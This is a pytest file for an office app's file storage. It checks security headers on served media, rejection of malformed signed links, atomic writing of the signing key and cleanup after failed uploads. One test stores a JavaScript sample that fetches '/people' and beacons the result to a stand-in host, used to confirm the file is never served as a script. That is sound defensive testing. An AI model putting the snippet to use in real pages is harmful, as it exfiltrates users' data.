"""Issue 8, part 3 (files): served media cannot run as a page, malformed links are 400,
the signing key is never read half-written, a failed request leaves no file behind."""

from __future__ import annotations

import threading
from collections.abc import AsyncIterator
from pathlib import Path

import httpx
import pytest
from sqlalchemy import text
from sqlalchemy.ext.asyncio import AsyncSession

from officehub.kit.config import Settings
from officehub.kit.storage import LocalStorage, signing_secret
from tests import factories as f
from tests.conftest import PG_URL
from tests.helpers import OfficeFixture, error_of
from tests.test_users import png_bytes, stored_files, upload


async def chunks(*parts: bytes) -> AsyncIterator[bytes]:
    for part in parts:
        yield part


JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
WEBP = b"RIFF\x24\x00\x00\x00WEBPVP8 \x18\x00\x00\x00" + b"\x00" * 24
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!"


async def _serve(
    client: httpx.AsyncClient, settings: Settings, key: str, content: bytes = b"content"
) -> httpx.Response:
    storage = LocalStorage.from_settings(settings)
    await storage.save(key, chunks(content), max_bytes=100_000)
    return await client.get(httpx.URL(storage.url(key)).raw_path.decode())


@pytest.mark.parametrize(
    ("key", "content", "media_type"),
    [
        ("avatars/o/u/a.png", png_bytes(), "image/png"),
        ("avatars/o/u/a.jpg", JPEG, "image/jpeg"),
        ("avatars/o/u/a.webp", WEBP, "image/webp"),
        ("media/o/a.gif", GIF, "image/gif"),
    ],
)
async def test_served_images_carry_nosniff_and_a_csp_and_are_shown_inline(
    client: httpx.AsyncClient, settings: Settings, key: str, content: bytes, media_type: str
) -> None:
    response = await _serve(client, settings, key, content)
    assert response.status_code == 200
    assert response.headers["content-type"] == media_type
    assert response.content == content
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["content-security-policy"] == "default-src 'none'"
    assert "content-disposition" not in response.headers


@pytest.mark.parametrize(
    "key", ["media/o/doc.pdf", "media/o/notes.txt", "media/o/page.html", "media/o/x.svg", "blob"]
)
async def test_served_documents_are_attachments(
    client: httpx.AsyncClient, settings: Settings, key: str
) -> None:
    response = await _serve(client, settings, key)
    assert response.status_code == 200
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["content-security-policy"] == "default-src 'none'"
    name = key.rsplit("/", 1)[-1]
    assert response.headers["content-disposition"] == f"attachment; filename*=UTF-8''{name}"
    assert response.headers["content-type"] == "application/octet-stream"


async def test_a_file_declared_javascript_is_never_served_as_a_script(
    client: httpx.AsyncClient, settings: Settings
) -> None:
    """An inbound file the sender declared ``application/javascript`` is stored as ``.js``:
    served, it is an ``application/octet-stream`` attachment, which a browser never runs
    (``nosniff``), so ``script-src 'self'`` cannot be turned against the console."""
    script = b"fetch('/people').then(r => r.text()).then(t => navigator.sendBeacon('//x', t))"
    response = await _serve(client, settings, "media/o/i/evil.js", script)
    assert response.status_code == 200
    assert response.headers["content-type"] == "application/octet-stream"
    assert response.headers["content-disposition"].startswith("attachment;")
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.content == script


@pytest.mark.parametrize("key", ["media/o/i/photo.js", "media/o/i/photo.bin", "media/o/i/photo"])
async def test_media_are_served_as_the_type_sniffed_from_their_bytes(
    client: httpx.AsyncClient, settings: Settings, key: str
) -> None:
    """Whatever the stored name says, a PNG's bytes are served as a PNG, inline."""
    response = await _serve(client, settings, key, png_bytes())
    assert response.headers["content-type"] == "image/png"
    assert "content-disposition" not in response.headers
    assert response.content == png_bytes()


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ("expires=" + "9" * 400 + "&signature=" + "é" * 64, "query.expires"),
        ("expires=" + "9" * 30 + "&signature=" + "0" * 64, "query.expires"),
        ("expires=-1&signature=" + "0" * 64, "query.expires"),
        ("expires=1999999999&signature=" + "é" * 64, "query.signature"),
        ("expires=1999999999&signature=%F0%9F%98%80", "query.signature"),
        ("expires=1999999999&signature=" + "0" * 63 + "g", "query.signature"),
    ],
    ids=[
        "enormous-expires-non-ascii-signature",
        "expires-past-year-9999",
        "negative-expires",
        "non-ascii-signature",
        "emoji-signature",
        "non-hex-signature",
    ],
)
async def test_a_media_link_with_an_enormous_expires_or_a_non_hex_signature_is_400(
    client: httpx.AsyncClient, settings: Settings, query: str, field: str
) -> None:
    storage = LocalStorage.from_settings(settings)
    await storage.save("a.png", chunks(b"data"), max_bytes=100)
    response = await client.get(f"/media/a.png?{query}")
    assert response.status_code == 400, response.text
    assert field in error_of(response)["details"]


def test_the_signing_key_is_written_atomically_for_concurrent_processes(tmp_path: Path) -> None:
    """Many starters at once: none reads an empty or partial key, all read the same one."""
    for round_number in range(40):
        settings = Settings(data_dir=tmp_path / f"data-{round_number}", signing_key="")
        start = threading.Barrier(8)
        keys: list[bytes] = []

        def starter(
            settings: Settings = settings,
            start: threading.Barrier = start,
            keys: list[bytes] = keys,
        ) -> None:
            start.wait()
            keys.append(signing_secret(settings))

        threads = [threading.Thread(target=starter) for _ in range(8)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        on_disk = (Path(settings.data_dir) / "signing.key").read_bytes().strip()
        assert len(on_disk) >= 32
        assert keys == [on_disk] * 8, (round_number, keys)
        leftovers = [p.name for p in Path(settings.data_dir).iterdir() if p.name != "signing.key"]
        assert leftovers == []


async def _refuse_avatar_changes(session: AsyncSession) -> None:
    """A real database failure after the file is written: the UPDATE is refused."""
    if PG_URL:
        await session.execute(
            text(
                "CREATE FUNCTION refuse_avatar() RETURNS trigger LANGUAGE plpgsql AS "
                "$$ BEGIN RAISE EXCEPTION 'avatar changes refused'; END $$"
            )
        )
        await session.execute(
            text(
                "CREATE TRIGGER refuse_avatar BEFORE UPDATE OF image_path ON users "
                "FOR EACH ROW EXECUTE FUNCTION refuse_avatar()"
            )
        )
    else:
        await session.execute(
            text(
                "CREATE TRIGGER refuse_avatar BEFORE UPDATE OF image_path ON users "
                "BEGIN SELECT RAISE(ABORT, 'avatar changes refused'); END"
            )
        )
    await session.commit()


async def test_a_file_written_by_a_request_that_then_fails_is_removed(
    client: httpx.AsyncClient, session: AsyncSession, settings: Settings, office_a: OfficeFixture
) -> None:
    user = await f.make_user(session, office_a.id)
    await session.commit()
    await _refuse_avatar_changes(session)
    response = await upload(client, office_a, user.id, "a.png", png_bytes())
    assert response.status_code >= 400
    assert "avatar changes refused" not in response.text
    assert stored_files(settings) == []
    read = await client.get(f"/user/{user.id}", headers=office_a.headers)
    assert read.json()["imageUrl"] is None


async def test_a_file_written_by_a_request_that_commits_is_kept(
    client: httpx.AsyncClient, session: AsyncSession, settings: Settings, office_a: OfficeFixture
) -> None:
    user = await f.make_user(session, office_a.id)
    await session.commit()
    response = await upload(client, office_a, user.id, "a.png", png_bytes())
    assert response.status_code == 200
    [stored] = stored_files(settings)
    assert stored.read_bytes() == png_bytes()
